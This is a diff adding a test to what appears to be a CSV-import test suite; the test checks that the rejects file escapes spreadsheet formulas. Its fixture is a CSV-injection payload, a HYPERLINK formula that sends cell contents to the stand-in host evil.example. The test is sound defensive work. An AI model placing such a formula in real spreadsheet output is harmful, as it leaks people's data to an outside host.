@@ -34,6 +34,19 @@ describe('import of hostile input', () => {
     expect(rejected.map((r) => [r[0], r[1]])).toEqual([['15001', 'field 2 contains a NUL byte']]);
   });
 
+  it('writes the rejects file so that no spreadsheet runs what the input held: its header and its values', async () => {
+    const link = '=HYPERLINK("http://evil.example/?"&A2)';
+    const text = [`${HEADER},"${link.replace(/"/g, '""')}"`, `${line(1)},x`, `12-34,"${link.replace(/"/g, '""')}",,,,,,,,,,,x`].join('\n') + '\n';
+    const { db } = database();
+    const file = path.join(await useTempDir(), 'people.csv');
+    await writeFile(file, text);
+    const result = await importParticipants(deps(db), file);
+    const [header, ...rejected] = await parseCsv((await readFile(result.rejectsFile, 'utf8')).replace(/^\uFEFF/, ''));
+    expect(header!.at(-1)).toBe(`'${link.toLowerCase()}`); // the import names columns in lower case
+    expect(rejected[0]![3]).toBe(`'${link}`);
+    expect([header!, ...rejected].flat().filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
+  });
+
   it('rejects a line whose quote never closes, resynchronises at the next record and names no one in the reason', async () => {
     const lines = [HEADER, line(1), `${line(2).replace(/,a@b\.vn$/, '')},"binh@example.vn`, line(3), line(4)];
     const { result, rejected, count } = await importText(lines.join('\n') + '\n');
